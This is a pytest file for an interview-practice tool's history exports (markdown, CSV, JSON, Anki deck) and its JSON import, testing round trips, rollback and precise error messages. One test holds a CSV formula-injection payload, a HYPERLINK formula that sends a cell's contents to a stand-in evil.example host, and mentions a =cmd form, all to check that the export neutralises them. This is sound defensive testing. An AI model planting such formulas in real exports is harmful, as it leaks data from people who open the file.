"""exporting: md / csv / json / anki exports of a seeded history, and import of a JSON export
(round trip, idempotent, all-or-nothing, clear errors on malformed files)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from _review_seed import add, day, regrade_at
from interviewer.app import exporting, reviewing, scheduling
from interviewer.app.services import Services
from interviewer.core.errors import FileFormatError, InterviewerError
from interviewer.core.models import AttemptKind
from interviewer.store import history, transfer

NOW = day(8)


@pytest.fixture
def seeded(services):
    bank = services.bank()
    ids = {q.topic: [] for q in bank.questions}
    for q in bank.questions:
        ids[q.topic].append(q.id)
    A1, A2 = ids["Attention Mechanisms"][:2]
    T1 = ids["Training & Fine-tuning"][0]
    st = services.store
    s1 = st.start_session(bank.id)
    s2 = st.start_session(bank.id)
    out = {"A1": A1, "A2": A2, "T1": T1, "s1": s1.id, "s2": s2.id}
    out["a1"] = add(st, A1, day(0), 30, {"k1": "covered", "k2": "missing"}, session_id=s1.id,
                    answer="Attention mixes tokens.\n\nIt uses | pipes and \"quotes\".")
    out["t1"] = add(st, T1, day(0, 1), 88, {"k1": "covered"}, session_id=s1.id)
    out["a2"] = add(st, A2, day(0, 2), 40, {"k2": "missing"}, session_id=s1.id)
    out["f1"] = add(st, A1, day(0, 3), 60, {"k1": "covered"}, session_id=s1.id, parent_id=out["a2"])
    out["a1b"] = add(st, A1, day(3), 70, {"k1": "covered", "k2": "partial"}, session_id=s2.id)
    regrade_at(st, out["a1b"], day(3, 2), 52, {"k1": "covered", "k2": "missing"}, backend="llm")
    history.add_override(st, out["a1b"], 80, "I did mention the sqrt(d_k) scaling", now=day(3, 3))
    out["u"] = add(st, T1, day(3, 1), None, session_id=s2.id)
    out["sk"] = add(st, A2, day(3, 4), None, kind=AttemptKind.skipped, session_id=s2.id)
    return out


def _snapshot(svc: Services) -> list[tuple]:
    """Everything an attempt is, without database ids: compares two databases."""
    st = svc.store
    rows = []
    for a in sorted(st.attempts(), key=lambda a: (a.submitted_at, a.question_id)):
        parent = st.get_attempt(a.parent_id) if a.parent_id else None
        sess = st.get_session(a.session_id) if a.session_id else None
        rows.append((a.bank_id, a.question_id, a.prompt, a.answer, a.kind, a.status, a.error,
                     a.submitted_at, a.duration_s, parent.submitted_at if parent else None,
                     sess.started_at if sess else None,
                     [(g.created_at, g.grade) for g in st.grades_for(a.id)],
                     [(o.score, o.reason, o.created_at) for o in history.overrides_for(st, a.id)]))
    return rows


def _other_services(tmp_path, monkeypatch) -> Services:
    home = tmp_path / "other-machine"
    monkeypatch.setenv("INTERVIEWER_HOME", str(home))
    return Services.create()


def test_json_round_trip_gives_the_same_history_and_schedule(services, seeded, tmp_path, monkeypatch):
    path = tmp_path / "h.json"
    res = exporting.export(services, "json", path, now=NOW)
    assert res.items == 7 and path.exists()
    before = _snapshot(services)
    scheduling.sync(services.store, now=NOW)
    cards_before = {(c.question_id, c.due, c.reviews) for c in history.all_cards(services.store)}
    other = _other_services(tmp_path, monkeypatch)
    try:
        counts = exporting.import_history(other, path, now=NOW)
        assert counts["attempts"] == 7 and counts["grades"] == 6 and counts["overrides"] == 1
        assert counts["sessions"] == 2
        assert _snapshot(other) == before
        assert {(c.question_id, c.due, c.reviews) for c in history.all_cards(other.store)} == cards_before
        assert reviewing.report(other, now=NOW).to_dict()["topics"] == reviewing.report(services, now=NOW).to_dict()["topics"]
        again = exporting.import_history(other, path, now=NOW)  # importing twice adds nothing
        assert again["attempts"] == 0 and again["attempts_existing"] == 7 and again["grades_existing"] == 6
        assert _snapshot(other) == before
    finally:
        other.close()


def test_export_since_keeps_later_attempts_and_parents(services, seeded):
    data = exporting.export_data(services, since=day(0, 3))
    got = {a["id"] for a in data["attempts"]}
    assert got == {seeded["f1"], seeded["a2"], seeded["a1b"], seeded["u"], seeded["sk"]}  # a2 as f1's parent
    assert data["since"].startswith("2025-03-01T12:00")
    assert {s["id"] for s in data["sessions"]} == {seeded["s1"], seeded["s2"]}
    assert len(next(a for a in data["attempts"] if a["id"] == seeded["a1b"])["grades"]) == 2


def _write(tmp_path, data, name="bad.json"):
    p = tmp_path / name
    p.write_text(data if isinstance(data, str) else json.dumps(data))
    return p


def test_import_is_all_or_nothing_on_a_malformed_file(services, seeded, tmp_path):
    data = exporting.export_data(services, now=NOW)
    data["attempts"][4]["grades"][0]["grade"]["score"] = 150
    p = _write(tmp_path, data)
    other_before = _snapshot(services)
    with pytest.raises(FileFormatError) as e:
        exporting.import_history(services, p)
    assert "attempts[4].grades[0].grade.score" in str(e.value) and "100" in str(e.value)
    assert "nothing was imported" in str(e.value)
    assert _snapshot(services) == other_before


def test_restore_rolls_back_when_a_write_fails_midway(services, tmp_path):
    good = {"id": 1, "session_id": None, "bank_id": "llm-100", "question_id": "llm-q001", "prompt": "p",
            "answer": "a", "kind": "answer", "status": "graded", "error": None, "parent_id": None,
            "started_at": None, "submitted_at": day(0), "duration_s": None, "overrides": [],
            "grades": [{"created_at": day(0), "grade": __import__("_review_seed").make_grade(70)}]}
    broken = {**good, "id": 2, "submitted_at": day(1), "grades": [{"created_at": day(1), "grade": object()}]}
    with pytest.raises(AttributeError):
        transfer.restore(services.store, [], [good, broken])
    assert services.store.attempts() == []


@pytest.mark.parametrize(("content", "expected"), [
    ("{not json", "not valid JSON"),
    ({"format": "something-else"}, "not an interviewer history export"),
    ([1, 2], "not an interviewer history export"),
    ({"format": "interviewer-history", "version": 9, "sessions": [], "attempts": []}, "newer interviewer"),
    ({"format": "interviewer-history", "version": 1, "sessions": []}, "attempts: Field required"),
    ({"format": "interviewer-history", "version": 1, "sessions": [], "attempts": [
        {"id": 1, "bank_id": "b", "question_id": "q", "prompt": "p", "answer": "a", "status": "graded",
         "submitted_at": "yesterday"}]}, "attempts[0].submitted_at"),
    ({"format": "interviewer-history", "version": 1, "sessions": [], "attempts": [
        {"id": 1, "bank_id": "b", "question_id": "q", "prompt": "p", "answer": "a", "status": "graded",
         "submitted_at": "2025-01-01T00:00:00", "parent_id": 7}]}, "parent_id 7 is not an attempt"),
    ({"format": "interviewer-history", "version": 1, "sessions": [], "attempts": [
        {"id": 1, "bank_id": "b", "question_id": "q", "prompt": "p", "answer": "a", "status": "graded",
         "submitted_at": "2025-01-01T00:00:00", "session_id": 3}]}, "session_id 3 is not a session"),
    ({"format": "interviewer-history", "version": 1, "sessions": [], "attempts": [
        {"id": 1, "bank_id": "b", "question_id": "q", "prompt": "p", "answer": "a", "status": "graded",
         "submitted_at": "2025-01-01T00:00:00", "overrides": [{"score": 50, "reason": "", "created_at":
                                                              "2025-01-01T00:00:00"}]}]},
     "attempts[0].overrides[0].reason"),
])
def test_malformed_files_are_named_precisely(services, tmp_path, content, expected):
    p = _write(tmp_path, content)
    with pytest.raises(InterviewerError) as e:
        exporting.import_history(services, p)
    msg = str(e.value)
    assert str(p) in msg and expected in msg
    assert services.store.attempts() == []


def test_import_missing_file(services, tmp_path):
    with pytest.raises(InterviewerError, match="no such file"):
        exporting.import_history(services, tmp_path / "nope.json")


def test_csv_has_model_score_and_override_side_by_side(services, seeded, tmp_path):
    out = tmp_path / "out"
    res = exporting.export(services, "csv", out / "a.csv")
    rows = list(csv.DictReader(io.StringIO((out / "a.csv").read_text())))
    assert res.items == len(rows) == 7
    assert list(rows[0].keys()) == list(exporting.CSV_COLUMNS)
    r = next(r for r in rows if int(r["attempt_id"]) == seeded["a1b"])
    assert (r["model_score"], r["override_score"], r["score"]) == ("52", "80", "80")
    assert r["grades"] == "2" and r["grader"] == "llm:m1" and r["topic"] == "Attention Mechanisms"
    assert "sqrt(d_k)" in r["override_reason"]
    first = next(r for r in rows if int(r["attempt_id"]) == seeded["a1"])
    assert first["answer"] == "Attention mixes tokens.\n\nIt uses | pipes and \"quotes\"."
    u = next(r for r in rows if int(r["attempt_id"]) == seeded["u"])
    assert u["status"] == "ungraded" and u["score"] == "" and u["error"] == "grader unreachable"
    assert [p.name for p in out.iterdir()] == ["a.csv"]  # atomic write leaves no temp file


def test_anki_deck_holds_the_weak_questions_weakest_first(services, seeded, tmp_path):
    res = exporting.export(services, "anki", tmp_path / "deck.csv", now=NOW)
    text = (tmp_path / "deck.csv").read_text()
    head = [line for line in text.splitlines() if line.startswith("#")]
    assert "#separator:Comma" in head and "#html:true" in head and "#notetype:Basic" in head
    body = list(csv.reader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("#")))))
    # A2 (40) is weak; A1 (30, then override 80 -> mastery 57.8) is weak too; T1 (88) is not.
    assert res.items == 2 and [row[3] for row in body] == [f"interviewer-{seeded['A2']}", f"interviewer-{seeded['A1']}"]
    front, back, tags, _ = body[1]
    q = services.bank().get(seeded["A1"])
    assert q.question.replace("'", "&#x27;")[:20] in front and "Attention" in tags
    assert "you tend to leave this out" in back and "Reference answer" in back


def test_markdown_report_reads_well(services, seeded, tmp_path):
    res = exporting.export(services, "md", tmp_path / "r.md", now=NOW)
    md = (tmp_path / "r.md").read_text()
    assert res.items == 7
    assert md.startswith("# Interview practice report")
    topics = md.split("## Topics, weakest first")[1].split("##")[0]
    rows = [line for line in topics.splitlines() if line.startswith("| ") and "---" not in line][1:]
    assert rows[0].startswith("| Attention Mechanisms |") and "**weak**" in rows[0]
    assert rows[1].startswith("| Training & Fine-tuning |") and "**weak**" not in rows[1]
    assert "Not practised yet:" in md
    q = services.bank().get(seeded["A2"])
    missed = md.split("## What you often leave out")[1].split("##")[0]
    assert q.key_points[1].text in missed
    assert "> Attention mixes tokens." in md and "It uses | pipes" in md
    assert "**Your score: 80** — you disputed the grade: “I did mention the sqrt(d_k) scaling”" in md
    assert "2 grades, newest shown" in md
    assert "Since your previous attempt: score +50" in md  # 30 -> override 80
    assert "*Skipped.*" in md and "*Ungraded: grader unreachable.*" in md
    assert "- [ ] " in md and "*(missing)*" in md


def test_export_to_stdout_and_bad_arguments(services, seeded):
    res = exporting.export(services, "json", "-", now=NOW)
    assert res.path is None and json.loads(res.text)["format"] == "interviewer-history"
    with pytest.raises(InterviewerError, match="unknown export format"):
        exporting.export(services, "pdf")
    with pytest.raises(InterviewerError, match="YYYY-MM-DD"):
        exporting.parse_since("last tuesday")
    assert exporting.parse_since("2025-03-04").tzinfo is not None


def test_default_path_is_in_the_exports_folder(services, seeded):
    res = exporting.export(services, "md", now=NOW)
    assert res.path.parent == services.locations.exports_dir and res.path.name.endswith("report.md")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(services, tmp_path, start):
    """An answer (or an override reason) beginning with a formula character is written with a leading
    apostrophe, so a spreadsheet shows it as text instead of running =HYPERLINK(...) or =cmd|...; the rest of
    the text is kept whole, and numbers (scores) are never touched."""
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    st = services.store
    q = services.bank().questions[0]
    aid = add(st, q.id, day(0), 40, answer=payload)
    history.add_override(st, aid, 55, start + "SUM(1,2)", now=day(0, 1))
    text, n = exporting.render_csv(services)
    row = next(csv.DictReader(io.StringIO(text)))
    assert n == 1
    assert row["answer"] == "'" + payload and row["override_reason"] == "'" + start + "SUM(1,2)"
    assert (row["score"], row["model_score"], row["override_score"]) == ("55", "40", "55")
    for name, value in row.items():
        assert not value.startswith(exporting.FORMULA_START), (name, value)


def test_csv_leaves_ordinary_text_alone(services):
    add(services.store, services.bank().questions[0].id, day(0), 70, answer="Queries, keys - and values = 3 parts")
    row = next(csv.DictReader(io.StringIO(exporting.render_csv(services)[0])))
    assert row["answer"] == "Queries, keys - and values = 3 parts"


def test_csv_lists_the_misconceptions_of_the_newest_grade(services, tmp_path):
    """Issue 12: every export lists each misconception found: the answer's words, what is wrong, what is right.
    Old grades stored them as plain strings; they read as claims."""
    from interviewer.grading.base import GradeRequest
    from interviewer.grading.offline import OfflineGrader

    _, q = services.find_question("llm-q058")
    answer = ("FlashAttention is approximate, not exact, and it is not IO-aware. It speeds up attention by "
              "computing it in tiles in SRAM so it never materializes the full n by n matrix.")
    grade = OfflineGrader().grade_sync(GradeRequest(question=q, rubric=services.rubric_for(q), answer=answer))
    assert grade.misconceptions
    st = services.store
    wrong = st.add_attempt(bank_id="llm-100", question_id=q.id, prompt=q.question, answer=answer)
    st.add_grade(wrong.id, grade)
    old = add(st, "llm-q001", day(0), 50)
    st.conn.execute("UPDATE grades SET result = json_set(result, '$.misconceptions', json_array('an old claim')) "
                    "WHERE attempt_id = ?", (old,))
    clean = add(st, "llm-q002", day(0), 90)
    exporting.export(services, "csv", tmp_path / "a.csv")
    rows = {int(r["attempt_id"]): r for r in csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text()))}
    cell = rows[wrong.id]["misconceptions"]
    assert cell.count("\n") == len(grade.misconceptions) - 1
    first = grade.misconceptions[0]
    assert first.claim.strip().rstrip(".") in cell and 'You said: "' in cell and "Right: " in cell
    assert "approximate" in cell
    assert rows[old]["misconceptions"] == "an old claim"
    assert rows[clean]["misconceptions"] == ""


@pytest.mark.parametrize("result", ["{not json", '{"score": "high"}',
                                    '{"score": 70, "verdict": "solid", "criteria": [7], "grader": {"backend": "offline"}}'])
def test_a_damaged_grade_is_shown_and_exported_with_its_stored_score(services, tmp_path, monkeypatch, result):
    """A grade whose JSON a hand edit damaged: the attempt reads with the score stored beside it and says why it has
    no details; every export is written, none stops on it; the JSON one imports elsewhere with the same score, except
    where the damage is under a grade's main fields (the export checks their shape only), which the import names."""
    from interviewer.store.repo import DAMAGED_GRADE

    st = services.store
    q = services.bank().questions[0].id
    a = add(st, q, day(1))
    st.conn.execute("INSERT INTO grades(attempt_id, created_at, backend, score, verdict, result) "
                    "VALUES (?, ?, 'offline', 70, 'solid', ?)", (a, history.iso(day(1, 1)), result))
    g = st.latest_grade(a).grade
    assert (g.score, g.verdict, g.summary, g.grader.backend) == (70, "solid", DAMAGED_GRADE, "offline")
    for fmt in ("md", "csv", "json"):
        assert exporting.export(services, fmt, tmp_path / f"h.{fmt}", now=NOW).items == 1, fmt
    assert exporting.export(services, "anki", tmp_path / "h.txt", now=NOW).items == 0  # 70 is not weak
    assert DAMAGED_GRADE in (tmp_path / "h.md").read_text()
    row = next(csv.DictReader(io.StringIO((tmp_path / "h.csv").read_text())))
    assert float(row["score"]) == 70
    other = _other_services(tmp_path, monkeypatch)
    if '"criteria": [7]' in result:  # damage under a grade's shape: the export keeps it, the import names it
        with pytest.raises(FileFormatError, match=r"(?s)grades\[0\]\.grade\.criteria\[0\].*nothing was imported"):
            exporting.import_history(other, tmp_path / "h.json", now=NOW)
        assert other.store.attempts() == []
    else:
        exporting.import_history(other, tmp_path / "h.json", now=NOW)
        [att] = other.store.attempts()
        assert other.store.latest_grade(att.id).grade.score == 70
    other.close()
